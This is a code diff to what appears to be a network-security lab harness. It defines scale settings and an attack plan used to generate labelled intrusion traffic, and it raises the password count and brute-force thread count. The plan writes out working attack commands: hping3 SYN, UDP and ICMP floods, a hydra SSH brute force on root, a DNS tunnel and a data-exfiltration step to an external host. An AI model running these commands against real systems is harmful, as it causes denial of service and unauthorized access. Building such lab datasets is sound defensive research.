@@ -25,7 +25,7 @@ export interface LabScale {
 }
 
 export const LAB_SCALES: Record<'short' | 'long', LabScale> = {
-  short: { baselineS: 75, attackBudgetS: 125, gapS: 2, backupBytes: 40_000_000, tcpPorts: '1-400', udpPorts: '1-120', floodPackets: 1500, passwords: 16, tunnelQueries: 50, beaconPeriodS: 4, beacons: 12, exfilBytes: 3_000_000, exfilS: 20, slowPorts: '22,23,80,3389', sweepPrefix: 27 },
+  short: { baselineS: 75, attackBudgetS: 140, gapS: 2, backupBytes: 40_000_000, tcpPorts: '1-400', udpPorts: '1-120', floodPackets: 1500, passwords: 24, tunnelQueries: 50, beaconPeriodS: 4, beacons: 12, exfilBytes: 3_000_000, exfilS: 20, slowPorts: '22,23,80,3389', sweepPrefix: 27 },
   long: { baselineS: 600, attackBudgetS: 600, gapS: 10, backupBytes: 400_000_000, tcpPorts: '1-1024', udpPorts: '1-300', floodPackets: 6000, passwords: 120, tunnelQueries: 400, beaconPeriodS: 10, beacons: 36, exfilBytes: 20_000_000, exfilS: 240, slowPorts: '21,22,23,25,80,443,3389,8080', sweepPrefix: 24 },
 };
 
@@ -61,7 +61,7 @@ export function attackPlan(s: LabScale, h: Record<string, LabHost>, internalCidr
     { episode: 'hping-syn', attack: 'synflood', from: 'attacker', victim, command: ['hping3', '-q', '-S', '-p', '80', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
     { episode: 'hping-udp', attack: 'udpflood', from: 'attacker', victim, command: ['hping3', '-q', '--udp', '-p', '53', '-d', '120', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
     { episode: 'hping-icmp', attack: 'icmpflood', from: 'attacker', victim, command: ['hping3', '-q', '-1', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
-    { episode: 'hydra-ssh', attack: 'bruteforce', from: 'attacker', victim, command: ['sh', '-c', `printf '%s\\n' '${words.replace(/\n/g, "' '")}' > words.txt && hydra -q -I -l root -P words.txt -t 4 ssh://${victim}`], timeoutS: 240 },
+    { episode: 'hydra-ssh', attack: 'bruteforce', from: 'attacker', victim, command: ['sh', '-c', `printf '%s\\n' '${words.replace(/\n/g, "' '")}' > words.txt && hydra -q -I -l root -P words.txt -t 6 ssh://${victim}`], timeoutS: 240 },
     { episode: 'dns-tunnel', attack: 'dnstunnel', from: 'attacker', victim, command: ['sh', '-c', tunnel], timeoutS: 240 },
     { episode: 'exfil', attack: 'exfil', from: 'attacker', victim: ext, command: ['agent', 'exfil', ext, String(s.exfilBytes), String(s.exfilS)], timeoutS: s.exfilS + 60 },
   ];
